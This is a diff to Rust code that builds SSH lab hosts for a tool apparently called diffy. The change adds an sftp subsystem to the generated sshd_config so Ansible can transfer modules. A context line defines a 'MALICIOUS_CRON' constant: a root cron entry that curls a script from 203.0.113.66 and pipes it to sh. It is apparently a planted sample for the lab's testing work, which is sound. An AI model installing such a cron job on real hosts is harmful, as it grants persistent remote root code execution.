@@ -46,6 +46,7 @@ pub const MALICIOUS_CRON: &str =
     "*/5 * * * * root curl -fsSL http://203.0.113.66/x.sh | sh >/dev/null 2>&1";
 
 const SSHD: &str = "/usr/sbin/sshd";
+const SFTP_SERVER: &str = "/usr/lib/openssh/sftp-server";
 
 /// What a lab host does.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -363,12 +364,18 @@ fn write_etc(upper: &Path, spec: &HostSpec, client_key: &Path) -> Result<(), Str
     } else {
         ""
     };
+    // Not for diffy, which needs no file transfer: Ansible copies its modules over sftp.
+    let sftp = if Path::new(SFTP_SERVER).is_file() {
+        format!("Subsystem sftp {SFTP_SERVER}\n")
+    } else {
+        String::new()
+    };
     let config = format!(
         "HostKey /etc/ssh/diffy_lab_host_ed25519_key\n\
          AuthorizedKeysFile /etc/ssh/diffy_lab_authorized_keys\n\
          PermitRootLogin prohibit-password\nPasswordAuthentication no\n\
          KbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\nPrintMotd no\n\
-         PidFile none\nLogLevel VERBOSE\n{accept_env}"
+         PidFile none\nLogLevel VERBOSE\n{accept_env}{sftp}"
     );
     fs::write(upper.join("ssh/sshd_config"), config).map_err(io)
 }
